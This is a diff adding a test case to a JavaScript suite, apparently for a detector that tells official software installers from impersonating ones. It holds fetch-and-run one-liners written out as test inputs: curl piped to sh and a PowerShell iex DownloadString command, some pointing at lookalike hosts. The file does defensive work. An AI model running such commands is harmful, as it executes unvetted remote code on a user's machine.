@@ -203,6 +203,11 @@ describe('known installers', () => {
     expect(impersonatedInstaller('curl -sSf https://rustup-rs.org/install.sh | sh')).toBe('rustup-rs.org');
     expect(impersonatedInstaller('curl -sSf https://get.example.org/install.sh | sh')).toBeNull();
   });
+
+  it("lowers Chocolatey's PowerShell installer from its own host", () => {
+    expect(knownInstallerOnly("iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))")).toBe(true);
+    expect(knownInstallerOnly("iex ((New-Object System.Net.WebClient).DownloadString('https://chocolatey.example.org/install.ps1'))")).toBe(false);
+  });
 });
 
 describe('data flow across the skill', () => {
